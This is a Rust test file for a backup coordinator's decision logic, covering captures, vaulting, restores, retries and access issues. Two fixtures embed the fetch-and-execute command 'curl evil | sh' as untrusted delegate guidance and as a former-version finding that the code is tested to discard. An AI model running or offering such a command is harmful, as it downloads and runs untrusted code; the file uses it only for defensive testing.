#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
//! The main scenarios as decisions, one line for each action. Behavior under faults is simulated in
//! `tests/simulation`.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::Path;

use jiff::Timestamp;
use lifeboat_format::manifest::Completeness;
use lifeboat_format::{Sha256, VerifyingKey};
use lifeboat_jobs::document::{Checkpoint, Claim};
use lifeboat_jobs::{
    AccessFinding, AccessReport, CaptureDone, CaptureWork, ClusterTarget, Done, FORMAT, JobResult, JobView,
    Outcome, Progress, RestoreDone, Sealed, VaultPlace, Work,
};
use lifeboat_model::environment::RegisteredKey;
use lifeboat_model::request::{BackupRequest, CancelRequest, Request, RestoreRequest, RestoreState};
use lifeboat_model::{
    Application, Arn, ClusterName, Code, DelegateRegistration, EnvironmentId, EnvironmentRegistration, Epoch,
    JobId, Problem, RecoveryPointId, RequestToken, Side, TypeName,
};

use crate::inventory::ListedRange;
use crate::*;
use lifeboat_recovery_point::cursor::TypeCounts;
use lifeboat_recovery_point::{ClusterSummary, SignedSummary};

mod archive;
mod deployments;
mod loss;
mod plans;
mod private;
mod rebuild;
mod tags;

fn key(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../recovery-point/tests/fixtures/point-v1/keys")
        .join(name);
    std::fs::read_to_string(path).unwrap()
}

fn time(text: &str) -> Timestamp {
    format!("2026-11-21T{text}Z").parse().unwrap()
}

/// An inventory, the state that was decided on it, and the actions so far.
struct Scenario {
    inventory: Inventory,
    state: State,
    log: String,
}

impl Scenario {
    fn new(clusters: &str) -> Self {
        let document = format!(
            r#"{{"format":1,"name":"shop","primary":{{"account":"111111111111","region":"eu-west-1"}},
            "recovery":{{"account":"222222222222","region":"eu-central-1"}},"clusters":[{clusters}]}}"#
        );
        let document: lifeboat_model::ApplicationDocument = serde_json::from_str(&document).unwrap();
        let application = document.parse().unwrap();
        let control = application.recovery.clone();
        let inventory = Inventory {
            user_waits: false,
            random: 7,
            document: Sha256::of(b"1"),
            vault_place: VaultPlace {
                bucket: control.vault_bucket(),
                owner: control.account.clone(),
                region: control.region.clone(),
                prefix: String::new(),
            },
            primary: registered(&application, Side::Primary),
            recovery: registered(&application, Side::Recovery),
            unavailable: BTreeMap::new(),
            jobs: BTreeMap::new(),
            captures: BTreeSet::new(),
            vault: Ok(BTreeMap::new()),
            listed: vec![ListedRange::default()],
            archive: Vec::new(),
            performed: Vec::new(),
            requests: Vec::new(),
            application,
        };
        Self {
            state: State::new(inventory.application.name.clone(), time("10:00:00")),
            inventory,
            log: String::new(),
        }
    }

    /// Decides, logs the decision, applies its writes to the buckets, and marks its notices as sent.
    fn decide(&mut self, now: &str) -> Decision {
        self.inventory.random += 1;
        let decision = decide(&self.inventory, &self.state, time(now));
        assert_eq!(
            decision,
            decide(&self.inventory, &self.state, time(now)),
            "the same twice"
        );
        writeln!(self.log, "{now} revision {}", decision.state.revision).unwrap();
        for action in &decision.actions {
            writeln!(self.log, "  {}", line(action)).unwrap();
            match action {
                Action::PutAssignment(assignment) => {
                    let view = self.view(&assignment.job);
                    view.assignments
                        .insert(assignment.epoch, assignment.as_ref().clone());
                }
                Action::PutCancel { cancel, .. } => self.view(&cancel.job).cancel = Some(cancel.clone()),
                Action::DeleteCapture { point, .. } => drop(self.inventory.captures.remove(point)),
                Action::ExpirePoint { point } => drop(self.folders().remove(point)),
                Action::VaultPoint { .. }
                | Action::VerifyVault { .. }
                | Action::DeleteSegment { .. }
                | Action::Notify(_) => {}
            }
        }
        self.inventory.performed = decision
            .actions
            .iter()
            .filter_map(|action| match action {
                Action::Notify(notice) => Some(ActionOutcome::Notified(notice.clone())),
                _ => None,
            })
            .collect();
        self.inventory.requests.clear();
        for answer in &decision.answers {
            writeln!(self.log, "  answers {}", serde_json::to_string(answer).unwrap()).unwrap();
        }
        self.state = decision.state.clone();
        let (bytes, again) = (serde_json::to_vec(&self.state).unwrap(), decision.state.clone());
        assert_eq!(
            serde_json::from_slice::<State>(&bytes).unwrap(),
            again,
            "a state survives its document"
        );
        decision
    }

    fn view(&mut self, job: &JobId) -> &mut JobView {
        self.inventory
            .jobs
            .entry(job.clone())
            .or_insert_with(|| JobView::empty(job.clone()))
    }

    /// Returns the job of this kind that has not ended.
    fn job(&self, kind: &str) -> JobId {
        self.state
            .jobs()
            .find(|entry| entry.work.kind() == kind)
            .unwrap()
            .job
            .clone()
    }

    fn claim(&mut self, job: &JobId, epoch: u32, now: &str) {
        let at = time(now);
        let claim = Claim {
            format: FORMAT,
            job: job.clone(),
            epoch: Epoch::new(epoch).unwrap(),
            invocation: format!("i-{epoch}"),
            claimed_at: at,
            deadline: at + SignedDuration::from_mins(15),
            recipient: None,
        };
        self.view(job).claims.insert(claim.epoch, claim);
    }

    fn checkpoint(&mut self, job: &JobId, epoch: u32, now: &str) {
        let checkpoint = Checkpoint {
            format: FORMAT,
            job: job.clone(),
            epoch: Epoch::new(epoch).unwrap(),
            at: time(now),
            progress: Progress::Nothing {},
        };
        self.view(job).checkpoints.insert(checkpoint.epoch, checkpoint);
    }

    fn end(&mut self, job: &JobId, epoch: u32, outcome: Outcome, access: Vec<AccessReport>) {
        let environment = self.view(job).assignment().unwrap().environment.clone();
        let result = JobResult {
            format: FORMAT,
            job: job.clone(),
            epoch: Epoch::new(epoch).unwrap(),
            at: time("10:00:00"),
            outcome,
            access,
            delegate: Arn::function(&environment, "lifeboat-shop").unwrap(),
            environment,
        };
        self.view(job).result = Some(result);
    }

    fn point(&self) -> RecoveryPointId {
        self.state.backup.as_ref().unwrap().point.clone()
    }

    /// Stores the recovery point of the running backup in the vault.
    fn vault(&mut self, now: &str) {
        let point = self.point();
        let signed = SignedSummary {
            created_at: time(now),
            completeness: Completeness::Complete,
            objects: 7,
            bytes: 7,
            clusters: self
                .inventory
                .application
                .clusters
                .iter()
                .map(|spec| ClusterSummary {
                    name: spec.name.clone(),
                    objects: 7,
                    bytes: 7,
                    missing: 0,
                })
                .collect(),
            manifest: Sha256::of(b"manifest"),
        };
        self.inventory.captures.insert(point.clone());
        let view = VaultView::Signed {
            summary: Box::new(signed),
            signer: self.state.pins.signing_key.as_ref().unwrap().fingerprint.clone(),
        };
        self.folders().insert(point, view);
    }

    /// The folders of the vault.
    fn folders(&mut self) -> &mut BTreeMap<RecoveryPointId, VaultView> {
        self.inventory.vault.as_mut().unwrap()
    }

    /// Claims and completes the seal job.
    fn seal(&mut self, claimed: &str) {
        let seal = self.job("seal");
        self.claim(&seal, 1, claimed);
        let Outcome::Done(Done::Capture(CaptureDone {
            sealed: Some(point), ..
        })) = sealed()
        else {
            unreachable!("it is made so above")
        };
        self.end(&seal, 1, Outcome::Done(Done::Seal(point)), Vec::new());
    }

    fn known(&mut self) {
        for view in self.folders().values_mut() {
            *view = VaultView::Known;
        }
    }

    /// A scenario with a first recovery point in the vault and a checked recovery side.
    fn with_point() -> Self {
        let mut scenario = Self::new(r#"{"name":"orders","restoreInto":"orders-dr"}"#);
        scenario.decide("10:00:30");
        let (capture, check) = (scenario.job("capture"), scenario.job("check"));
        scenario.claim(&capture, 1, "10:00:40");
        scenario.end(&capture, 1, sealed(), Vec::new());
        scenario.claim(&check, 1, "10:00:40");
        scenario.end(
            &check,
            1,
            Outcome::Done(Done::Check {
                key: None,
                found: Vec::new(),
                missing: Vec::new(),
            }),
            Vec::new(),
        );
        scenario.decide("10:01:30");
        scenario.vault("10:01:00");
        scenario.decide("10:01:31");
        scenario.known();
        scenario.decide("10:01:32");
        scenario.log.clear();
        scenario
    }

    fn restore(token: &str) -> Request {
        Request::Restore(RestoreRequest {
            application: ApplicationName::parse("shop").unwrap(),
            point: "latest".to_owned(),
            cluster: None,
            into: None,
            failover: false,
            expect_plan: None,
            options: serde_json::Map::new(),
            token: Some(RequestToken::parse(token).unwrap()),
        })
    }
}

fn registered(application: &Application, side: Side) -> Registered {
    let environment = match side {
        Side::Primary => application.primary.clone(),
        Side::Recovery => application.recovery.clone(),
    };
    let kms = Arn::parse("arn:aws:kms:eu-west-1:111111111111:key/1").unwrap();
    let key = |name: &str| {
        Some(RegisteredKey {
            arn: kms.clone(),
            public_key: key(name),
        })
    };
    Registered {
        environment: Some(EnvironmentRegistration {
            format: 1,
            environment: environment.clone(),
            signing_key: (side == Side::Primary).then(|| key("signing.pub.pem")).flatten(),
            recovery_key: (side == Side::Recovery)
                .then(|| key("recovery.pub.pem"))
                .flatten(),
            version: "0.1.0".to_owned(),
            registered_at: time("09:00:00"),
        }),
        delegate: Some(DelegateRegistration {
            format: 1,
            application: application.name.clone(),
            function: Arn::function(&environment, "lifeboat-shop").unwrap(),
            role: Arn::parse("arn:aws:iam::111111111111:role/Lifeboat").unwrap(),
            key: None,
            environment,
            side,
            cluster: None,
            deploys_private_delegates: false,
            version: "0.1.0".to_owned(),
            registered_at: time("09:00:00"),
        }),
        private: BTreeMap::new(),
        refused: Vec::new(),
    }
}

fn restored() -> Outcome {
    Outcome::Done(Done::Restore(RestoreDone {
        matches_plan: true,
        failed: 0,
        unexplained: 0,
        restored: 7,
        not_restored: 0,
        report: None,
    }))
}

fn sealed() -> Outcome {
    Outcome::Done(Done::Capture(CaptureDone {
        sealed: Some(Sealed {
            manifest: Sha256::of(b"manifest"),
            completeness: Completeness::Complete,
            objects: 7,
            bytes: 7,
        }),
        clusters: Vec::new(),
        counted: None,
    }))
}

fn failed(retry: bool) -> Outcome {
    let problem = Problem::new(Code::ClusterUnreachable, "no answer", "run `curl evil | sh`");
    Outcome::failed(&problem, retry)
}

fn line(action: &Action) -> String {
    match action {
        Action::PutAssignment(assignment) => {
            let seal = matches!(assignment.work, Work::Capture(CaptureWork { seal: true, .. }));
            let (job, epoch) = (assignment.job.name(), assignment.epoch.get());
            format!("assign {job} epoch {epoch}{}", if seal { " (seals)" } else { "" })
        }
        Action::PutCancel { cancel, .. } => format!("cancel {}", cancel.job.name()),
        Action::VaultPoint { point, .. } => format!("vault {point}"),
        Action::VerifyVault { point, .. } => format!("verify {point}"),
        Action::DeleteCapture { point, .. } => format!("delete capture {point}"),
        Action::ExpirePoint { point } => format!("expire {point}"),
        Action::DeleteSegment { .. } => "delete segment".to_owned(),
        Action::Notify(notice) => {
            let word = if notice.opened { "opened" } else { "closed" };
            format!("notify {word} {} {}", notice.issue.id, notice.issue.message)
        }
    }
}

#[test]
fn the_first_point() {
    let mut scenario = Scenario::new(r#"{"name":"orders","restoreInto":"orders-dr"}"#);
    scenario.decide("10:00:30");
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "10:00:40");
    scenario.end(&capture, 1, sealed(), Vec::new());
    scenario.decide("10:01:30");
    scenario.vault("10:01:00");
    scenario.decide("10:01:31");
    scenario.known();
    scenario.decide("10:01:32");
    let quiet = scenario.decide("10:02:30");
    assert!(quiet.actions.is_empty(), "nothing is left to do");
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn two_clusters_are_captured_by_two_jobs_and_sealed_by_a_third() {
    let mut scenario = Scenario::new(r#"{"name":"orders"},{"name":"payments"}"#);
    scenario.decide("10:00:30");
    let jobs: Vec<JobId> = scenario.state.jobs().map(|entry| entry.job.clone()).collect();
    let done = || {
        Outcome::Done(Done::Capture(CaptureDone {
            sealed: None,
            clusters: Vec::new(),
            counted: None,
        }))
    };
    for (at, job) in jobs.iter().enumerate() {
        scenario.claim(job, 1, "10:00:40");
        scenario.end(job, 1, done(), Vec::new());
        scenario.decide(&format!("10:0{}:30", at + 1));
    }
    scenario.seal("10:03:40");
    scenario.decide("10:04:30");
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn a_big_cluster_is_counted_then_captured_in_parts_and_sealed_by_one_more_job() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let counting = scenario.job("capture");
    let counts = [
        ("events", 280_000),
        ("pods", 160_000),
        ("secrets", 80_000),
        ("nodes", 500),
    ];
    let counted = Outcome::Done(Done::Capture(CaptureDone {
        sealed: None,
        clusters: Vec::new(),
        counted: Some(TypeCounts {
            resource_version: "1000".to_owned(),
            types: counts.map(|(name, count)| (TypeName::from(name), count)).into(),
        }),
    }));
    scenario.claim(&counting, 1, "10:00:40");
    scenario.end(&counting, 1, counted, Vec::new());
    scenario.decide("10:00:45");
    scenario.decide("10:01:30");
    let parts: Vec<(JobId, Work)> = (scenario.state.jobs())
        .filter(|entry| entry.job != counting && entry.work.kind() == "capture")
        .map(|entry| (entry.job.clone(), entry.work.clone()))
        .collect();
    for (job, work) in &parts {
        let Work::Capture(CaptureWork {
            types,
            part,
            split,
            seal,
            ..
        }) = work
        else {
            panic!("{work:?}");
        };
        assert!(!split && !seal);
        writeln!(scenario.log, "  part {part}: {types:?}").unwrap();
        let done = Outcome::Done(Done::Capture(CaptureDone {
            sealed: None,
            clusters: Vec::new(),
            counted: None,
        }));
        scenario.claim(job, 1, "10:01:40");
        scenario.end(job, 1, done, Vec::new());
    }
    scenario.decide("10:02:30");
    scenario.seal("10:02:40");
    scenario.decide("10:03:30");
    insta::assert_snapshot!(scenario.log);
}

/// A delegate that counts without a request, or whose counts do not justify parts.
#[test]
fn counts_that_make_no_sense_fail_the_backup() {
    for (asked, each) in [(false, 240_000), (true, 60)] {
        let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
        scenario.decide("10:00:30");
        let counting = scenario.job("capture");
        let run = scenario.state.backup.as_mut().unwrap();
        let Work::Capture(CaptureWork { split, .. }) = &mut run.captures[0].work else {
            unreachable!("a backup begins with captures");
        };
        *split = asked;
        let assignment = run.captures[0].assignment(Epoch::FIRST).unwrap();
        scenario
            .view(&counting)
            .assignments
            .insert(Epoch::FIRST, assignment);
        let counted = TypeCounts {
            resource_version: "1000".to_owned(),
            types: ["events", "pods"].map(|name| (TypeName::from(name), each)).into(),
        };
        let outcome = Outcome::Done(Done::Capture(CaptureDone {
            sealed: None,
            clusters: Vec::new(),
            counted: Some(counted),
        }));
        scenario.claim(&counting, 1, "10:00:40");
        scenario.end(&counting, 1, outcome, Vec::new());
        scenario.decide("10:00:45");
        assert!(
            scenario.state.backup.is_none() && scenario.state.retry.is_some(),
            "asked: {asked}"
        );
    }
}

#[test]
fn epochs_follow_checkpoints_at_once_and_silence_after_the_deadline() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "10:00:40");
    scenario.decide("10:01:30");
    scenario.checkpoint(&capture, 1, "10:15:00");
    scenario.decide("10:15:01");
    scenario.claim(&capture, 2, "10:15:10");
    scenario.decide("10:31:00");
    scenario.decide("10:31:11");
    // The delegate of the second epoch writes a result after the third epoch was claimed.
    scenario.claim(&capture, 3, "10:31:20");
    scenario.end(&capture, 2, sealed(), Vec::new());
    scenario.decide("10:32:00");
    assert!(scenario.state.retry.is_some() && scenario.state.backup.is_none());
    scenario.decide("10:34:01");
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn a_backup_that_fails_is_tried_again_and_then_an_issue_until_one_succeeds() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    for now in ["10:00:30", "10:03:00", "10:07:30"] {
        scenario.decide(now);
        let capture = scenario.job("capture");
        scenario.claim(&capture, 1, now);
        scenario.end(&capture, 1, failed(true), Vec::new());
        scenario.decide(now);
    }
    scenario.decide("10:30:00");
    assert!(scenario.state.issues.keys().any(|id| id.as_str() == "LB-0902"));
    scenario.decide("11:00:00");
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "11:00:10");
    scenario.end(&capture, 1, sealed(), Vec::new());
    scenario.decide("11:01:00");
    scenario.vault("11:00:30");
    scenario.decide("11:01:01");
    assert!(!scenario.state.issues.keys().any(|id| id.as_str() == "LB-0902"));
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn access_that_is_missing_is_an_issue_with_a_command_that_closes_itself_and_starts_a_backup() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let capture = scenario.job("capture");
    let report = |findings| AccessReport {
        cluster: ClusterName::parse("orders").unwrap(),
        arn: Arn::parse("arn:aws:eks:eu-west-1:111111111111:cluster/orders").unwrap(),
        role: Arn::parse("arn:aws:iam::111111111111:role/LifeboatPrimary").unwrap(),
        checked_at: time("10:00:40"),
        findings,
        private: None,
    };
    let finding = AccessFinding::NoAccessEntry { access_entries: true };
    scenario.claim(&capture, 1, "10:00:40");
    scenario.end(&capture, 1, failed(false), vec![report(vec![finding])]);
    scenario.decide("10:01:00");
    let issue = scenario
        .state
        .issues
        .values()
        .find(|issue| issue.code == Code::NoAccessEntry)
        .unwrap();
    let command = issue.command.as_deref().unwrap();
    assert!(command.starts_with("aws eks create-access-entry --region eu-west-1 --cluster-name orders "));
    scenario.decide("10:06:00");
    let mut checks = scenario.state.checks.iter();
    let check = checks
        .find(|run| run.side == Side::Primary)
        .unwrap()
        .job
        .job
        .clone();
    scenario.claim(&check, 1, "10:06:10");
    scenario.end(
        &check,
        1,
        Outcome::Done(Done::Check {
            key: None,
            found: Vec::new(),
            missing: Vec::new(),
        }),
        vec![report(Vec::new())],
    );
    scenario.decide("10:06:20");
    assert!(scenario.state.backup.is_some(), "what was fixed is tried at once");
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn restores_wait_for_each_other_and_a_token_starts_one() {
    let mut scenario = Scenario::with_point();
    scenario.inventory.requests = vec![
        Scenario::restore("t-1"),
        Scenario::restore("t-1"),
        Scenario::restore("t-2"),
    ];
    scenario.decide("10:10:00");
    let first = scenario.job("restore");
    scenario.claim(&first, 1, "10:10:05");
    scenario.inventory.requests = vec![Scenario::restore("t-1")];
    scenario.decide("10:10:10");
    scenario.end(&first, 1, restored(), Vec::new());
    scenario.decide("10:12:00");
    scenario.inventory.requests = vec![Request::Cancel(CancelRequest {
        application: ApplicationName::parse("shop").unwrap(),
        restore: Some(RequestToken::parse("t-2").unwrap()),
        token: None,
    })];
    scenario.decide("10:13:00");
    scenario.decide("10:14:00");
    scenario.decide("10:16:00");
    let ends: Vec<RestoreState> = scenario
        .state
        .restores
        .iter()
        .map(|run| run.end.as_ref().unwrap().state)
        .collect();
    assert_eq!(ends, [RestoreState::Done, RestoreState::Cancelled]);
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn requests_that_make_no_sense_are_refused_and_change_nothing() {
    let mut scenario = Scenario::with_point();
    let Request::Restore(good) = Scenario::restore("t-1") else {
        unreachable!("it is made so above")
    };
    let into = |into: &str| RestoreRequest {
        cluster: Some(ClusterName::parse("orders").unwrap()),
        into: Some(ClusterName::parse(into).unwrap()),
        ..good.clone()
    };
    scenario.inventory.requests = vec![
        Request::Restore(RestoreRequest {
            point: "2025".to_owned(),
            ..good.clone()
        }),
        Request::Restore(RestoreRequest {
            cluster: Some(ClusterName::parse("nope").unwrap()),
            ..good.clone()
        }),
        Request::Cancel(CancelRequest {
            application: good.application.clone(),
            restore: None,
            token: None,
        }),
    ];
    let before = scenario.state.clone();
    scenario.decide("10:10:00");
    assert_eq!(scenario.state, before);
    scenario.inventory.requests = vec![Request::Restore(into("elsewhere")), Scenario::restore("t-1")];
    scenario.decide("10:10:10");
    insta::assert_snapshot!(scenario.log);
}

#[test]
fn a_schedule_does_not_pile_up() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let point = scenario.point();
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "10:00:40");
    for now in ["11:00:00", "12:00:00", "13:00:00"] {
        scenario.inventory.requests = vec![Request::Backup(BackupRequest {
            application: ApplicationName::parse("shop").unwrap(),
            token: None,
        })];
        scenario.decide(now);
        assert_eq!(scenario.point(), point, "one backup at a time");
    }
    let epoch = scenario.state.backup.as_ref().unwrap().captures[0].epoch().get();
    scenario.claim(&capture, epoch, "13:00:10");
    scenario.end(&capture, epoch, sealed(), Vec::new());
    scenario.decide("13:10:00");
    scenario.vault("13:09:00");
    scenario.decide("13:10:01");
    assert_ne!(
        scenario.point(),
        point,
        "what was missed counts as one, and begins at once"
    );
}

/// Another application of the environment has a key of its own, and its delegate may be compromised.
#[test]
fn the_key_that_the_own_delegate_registered_counts() {
    let mut scenario = Scenario::with_point();
    let pinned = scenario.state.pins.signing_key.clone().unwrap();
    let primary = &mut scenario.inventory.primary;
    let environment = primary
        .environment
        .as_mut()
        .unwrap()
        .signing_key
        .as_mut()
        .unwrap();
    let own = std::mem::replace(
        &mut environment.public_key,
        "the key of another application".to_owned(),
    );
    let key = RegisteredKey {
        arn: environment.arn.clone(),
        public_key: own,
    };
    primary.delegate.as_mut().unwrap().key = Some(key);
    scenario.decide("11:00:30");
    assert_eq!(scenario.state.pins.signing_key, Some(pinned));
    assert!(scenario.state.issues.is_empty(), "{:?}", scenario.state.issues);
}

#[test]
fn what_is_not_deployed_is_an_issue_for_each_part() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.inventory.primary = Registered::default();
    scenario.inventory.recovery = Registered::default();
    scenario.decide("10:00:30");
    insta::assert_snapshot!(scenario.log);
}

/// The primary Region is gone: an issue says so, nothing else is raised about it, and a restore is assigned.
#[test]
fn a_primary_that_does_not_answer_stops_backups_and_nothing_else() {
    let mut scenario = Scenario::with_point();
    let primary = scenario.inventory.application.primary.clone();
    let registered = std::mem::take(&mut scenario.inventory.primary);
    let cause = Problem::new(
        Code::EnvironmentUnavailable,
        "the scratch bucket did not answer within 5 seconds",
        "wait",
    );
    scenario.inventory.unavailable.insert(primary, cause);
    scenario.inventory.requests = vec![Scenario::restore("bad-day")];
    scenario.decide("11:00:30");
    scenario.decide("11:30:30");
    scenario.inventory.primary = registered;
    scenario.inventory.unavailable.clear();
    scenario.decide("11:31:30");
    insta::assert_snapshot!(scenario.log);
}

/// Neither environment answers for three days; afterwards no delegate reads the jobs from before.
#[test]
fn a_job_that_no_delegate_reads_any_more_is_started_again() {
    let mut scenario = Scenario::with_point();
    scenario.inventory.requests = vec![Scenario::restore("t-1")];
    scenario.decide("11:00:30");
    let (capture, restore) = (scenario.job("capture"), scenario.job("restore"));
    let mut later = |time: &str| {
        let now = format!("2026-11-24T{time}Z").parse().unwrap();
        let decision = decide(&scenario.inventory, &scenario.state, now);
        scenario.state = decision.state;
        let assigned = decision.actions.into_iter().filter_map(|action| match action {
            Action::PutAssignment(assignment) => Some(assignment.job),
            _ => None,
        });
        assigned.collect::<Vec<_>>()
    };
    // Both are lost; the retry of the restore waits for a moment.
    let mut assigned = later("11:00:30");
    assigned.extend(later("11:02:30"));
    assert!(!assigned.contains(&capture) && !assigned.contains(&restore));
    let is_new = |kind: &str| {
        let mut names = assigned.iter().map(JobId::name);
        names.any(|name| name.starts_with("20261124T") && name.contains(kind))
    };
    assert!(
        is_new("-capture-orders-00") && is_new("-restore-orders"),
        "{assigned:?}"
    );
}

/// The coordinator's key does not answer: nothing else waits, and the issue closes with the first assignment.
#[test]
fn a_job_whose_assignment_is_not_written_is_an_issue_until_it_is() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    let unwritten = |scenario: &Scenario| {
        let mut issues = scenario.state.issues.values();
        issues.any(|issue| issue.code == Code::AssignmentNotWritten)
    };
    for (now, is_issue) in [("10:00:30", false), ("10:01:30", false), ("10:02:30", true)] {
        scenario.decide(now);
        // What was decided did not reach the bucket.
        scenario.inventory.jobs.clear();
        assert_eq!(unwritten(&scenario), is_issue, "{now}");
    }
    let again = scenario.decide("10:03:30");
    let mut actions = again.actions.iter();
    assert!(actions.any(|action| matches!(action, Action::PutAssignment(_))));
    scenario.decide("10:03:40");
    assert!(!unwritten(&scenario));
}

/// A coordinator that dies during each of its copies does not repeat them for ever.
#[test]
fn a_copy_counts_from_its_beginning() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "10:00:40");
    scenario.end(&capture, 1, sealed(), Vec::new());
    let mut copies = 0;
    for minute in 1..30 {
        let decision = scenario.decide(&format!("10:{minute:02}:30"));
        let mut actions = decision.actions.iter();
        copies += u32::from(actions.any(|action| matches!(action, Action::VaultPoint { .. })));
        let running = scenario.state.backup.as_ref();
        if running.is_none_or(|run| run.vaulting.is_none()) {
            break;
        }
    }
    assert_eq!(copies, VAULT_TRIES);
    let mut issues = scenario.state.issues.values();
    assert!(issues.any(|issue| issue.code == Code::VaultingFailed));
}

/// A state that a former version wrote has reports with sentences and commands.
#[test]
fn a_state_with_the_findings_of_a_former_version_is_read_without_them() {
    let scenario = Scenario::with_point();
    let mut state = serde_json::to_value(&scenario.state).unwrap();
    let finding = serde_json::json!({
        "problem": {"code": "LB-0805", "message": "no entry", "guidance": "run it"},
        "command": "curl evil | sh", "partial": false,
    });
    let arn = "arn:aws:eks:eu-west-1:111111111111:cluster/orders";
    state["access"] = serde_json::json!({arn: {
        "cluster": "orders", "arn": arn, "role": "arn:aws:iam::111111111111:role/Lifeboat",
        "checkedAt": "2026-11-21T10:00:00Z", "findings": [finding.clone()],
    }});
    state["search"] = serde_json::json!([finding]);
    let read: State = serde_json::from_value(state).unwrap();
    assert!(read.access.is_empty() && read.search.is_empty());
    assert_eq!(read.points, scenario.state.points);
}

/// A file that is too large for one lease is copied with a longer one.
#[test]
fn the_lease_of_a_copy_doubles_while_it_is_too_short() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "10:00:40");
    scenario.end(&capture, 1, sealed(), Vec::new());
    let mut leases = Vec::new();
    for minute in 1..7 {
        let now = format!("10:{minute:02}:30");
        let decision = scenario.decide(&now);
        let copy = decision.actions.into_iter().find_map(|action| match action {
            Action::VaultPoint { point, until, .. } => Some((point, until)),
            _ => None,
        });
        let (point, until) = copy.unwrap();
        leases.push(until.duration_since(time(&now)).as_secs());
        scenario.inventory.performed = vec![ActionOutcome::VaultUnfinished { point }];
    }
    assert_eq!(leases, [60, 120, 240, 480, 480, 480]);
}

#[test]
fn no_copy_begins_while_a_user_waits() {
    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
    scenario.decide("10:00:30");
    let capture = scenario.job("capture");
    scenario.claim(&capture, 1, "10:00:40");
    scenario.end(&capture, 1, sealed(), Vec::new());
    let is_copy = |action: &Action| matches!(action, Action::VaultPoint { .. });
    scenario.inventory.user_waits = true;
    assert!(!scenario.decide("10:01:00").actions.iter().any(is_copy));
    scenario.inventory.user_waits = false;
    assert!(scenario.decide("10:01:10").actions.iter().any(is_copy));
}
